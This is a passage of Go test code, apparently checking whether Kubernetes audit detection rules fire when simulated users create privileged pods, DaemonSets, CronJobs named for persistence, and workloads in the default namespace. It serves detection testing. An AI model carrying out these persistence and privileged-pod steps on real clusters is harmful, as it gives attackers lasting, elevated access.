	s.quiet("harmless-and-invalid", d.mallory).answers(http.StatusUnprocessableEntity).create(pod("lab", "invalid", `{containers: []}`))
	s.quiet("no-rights", d.alice).refused().create(pod("lab", "no-rights", containers(`securityContext: {privileged: true}`)))
	s.quiet("dry-run", d.mallory).dryRun().refused().create(pod("guarded", "refused-dry", containers(`securityContext: {privileged: true}`)))
}

func (d *driver) podKinds() {
	s := d.scene("DaemonSet Created or Changed")
	s.fires("create", d.mallory).create(workload("DaemonSet", "lab", "everywhere", plainPod))
	s.fires("apply-new", d.mallory).apply(workload("DaemonSet", "lab", "everywhere-applied", plainPod))
	s.fires("apply-existing", d.mallory).apply(workload("DaemonSet", "lab", "everywhere-applied", containers(`args: [a]`)))
	s.fires("image", d.mallory).patch(strategicPatch, at("apps/v1", "daemonsets", "lab", "everywhere"), `{spec: {template: {spec: {containers: [{name: app, image: "registry.example.com/tools:2"}]}}}}`)
	s.quiet("label", d.mallory).patch(mergePatch, at("apps/v1", "daemonsets", "lab", "everywhere"), `{metadata: {labels: {tier: none}}}`)
	s.quiet("deployment", d.mallory).create(workload("Deployment", "lab", "everywhere", plainPod))
	s.quiet("refused", d.alice).refused().create(workload("DaemonSet", "lab", "everywhere-alice", plainPod))
	s.quiet("deleted", d.mallory).delete(at("apps/v1", "daemonsets", "lab", "everywhere"))

	s = d.scene("CronJob Created or Changed")
	reporter := d.serviceAccount("lab", "reporter", "python-requests/2.32.4", "127.0.0.160")
	s.fires("create", d.mallory).create(workload("CronJob", "lab", "persist", plainPod))
	s.fires("apply-new", d.mallory).apply(workload("CronJob", "lab", "persist-applied", plainPod))
	s.fires("generated-name", d.mallory).create(workload("CronJob", "lab", "persist-", plainPod))
	s.fires("by-service-account", reporter).create(workload("CronJob", "lab", "persist-reporter", plainPod))
	s.fires("suspended", d.admin).create(workloadWith(workload("CronJob", "lab", "sleeper", plainPod), `{suspend: true}`))
	s.fires("resumed", d.admin).patch(mergePatch, at("batch/v1", "cronjobs", "lab", "sleeper"), `{spec: {suspend: false}}`)
	s.fires("apply-existing", d.mallory).apply(workload("CronJob", "lab", "persist-applied", containers(`command: [ls]`)))
	s.fires("schedule-patched", d.mallory).patch(mergePatch, at("batch/v1", "cronjobs", "lab", "persist"), `{spec: {schedule: "1 1 * * *"}}`)
	s.fires("job", d.mallory).create(workload("Job", "lab", "once", plainPod))
	s.quiet("deleted", d.mallory).delete(at("batch/v1", "cronjobs", "lab", "persist-applied"))
	s.quiet("deployment", d.mallory).create(workload("Deployment", "lab", "persist", plainPod))
	s.quiet("refused", d.alice).refused().create(workload("CronJob", "lab", "persist-alice", plainPod))
	s.quiet("dry-run", d.mallory).dryRun().create(workload("CronJob", "lab", "persist-dry", plainPod))
	s.observed("the cron job controller creating a job", func(e *event) bool {
		return e.User.Username == "system:serviceaccount:kube-system:cronjob-controller" && e.Verb == "create" && e.ObjectRef.Resource == "jobs"
	})
	s.quiet("existing-already", d.mallory).answers(http.StatusConflict).create(workload("CronJob", "lab", "persist", plainPod))

	s = d.scene("Workload Created in Default Namespace")
	s.fires("pod", d.mallory).create(pod("default", "lost", plainPod))
	s.fires("deployment", d.mallory).apply(workload("Deployment", "default", "lost", plainPod))
	s.quiet("elsewhere", d.mallory).create(pod("lab", "lost", plainPod))
	s.quiet("configmap", d.mallory).create(configMap("default", "lost", `{a: b}`))
	s.quiet("refused", d.alice).refused().create(pod("default", "lost-alice", plainPod))
}
